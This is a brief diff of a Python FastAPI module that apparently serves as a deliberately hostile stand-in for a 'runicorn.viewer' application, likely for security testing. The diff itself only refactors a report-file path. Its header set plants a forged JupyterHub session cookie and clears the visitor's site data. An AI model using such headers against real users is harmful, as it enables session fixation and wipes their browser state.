@@ -1,14 +1,13 @@
 """In the place of ``runicorn.viewer``: an application that attacks whoever opens it."""
 
 import json
-import os
 from pathlib import Path
 
 from fastapi import FastAPI, Request
 from fastapi.responses import HTMLResponse, JSONResponse, Response
 
 HERE = Path(__file__).parent
-REPORT = Path(os.path.expanduser("~")) / "attack-report.jsonl"
+REPORT = Path.home() / "attack-report.jsonl"
 HEADERS = {
     "Set-Cookie": "jupyterhub-session-id=planted; Path=/",
     "Clear-Site-Data": '"cookies", "storage"',
